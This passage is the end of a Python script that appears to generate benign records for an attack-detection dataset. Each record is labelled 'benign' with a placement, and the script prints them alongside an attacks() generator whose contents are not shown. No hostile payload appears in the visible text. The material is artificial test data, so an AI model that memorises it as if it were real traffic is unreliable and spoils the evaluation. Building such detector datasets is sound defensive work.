    ("If-Modified-Since", "Wed, 01 May 2024 09:30:00 GMT"),
]


def _typed_benign(n: int) -> Generator[dict[str, Any], None, int]:
    """Each typed value in its field, in the place such a field travels (the attacks' real placements)."""
    for i, (field, value) in enumerate(TYPED_VALUES):
        place = _choose(_places(field)[0], i, value, "json")
        n += 1
        yield {**SET.real(place, "user_agent" if _is_header(field) else field, value),
               "id": f"{NAME}-benign-typed-{n:04d}", "category": "benign", "placement": place}
    return n


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(CHAT, prefix)
    n = yield from _typed_benign(n)
    n = yield from SET.searches(SEARCHES, prefix, n)
    n = yield from links_and_prose(URLS, PROSE, prefix, n)
    n = yield from numbered((_json("/api/users", {"name": who, "email": mail, "phone": tel})
                             for who, mail, tel in PROFILES), f"{prefix}-profile", n, "json")
    n = yield from SET.uploads(UPLOAD_NAMES, prefix, n)
    yield from SET.headers(BENIGN_HEADERS, prefix, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
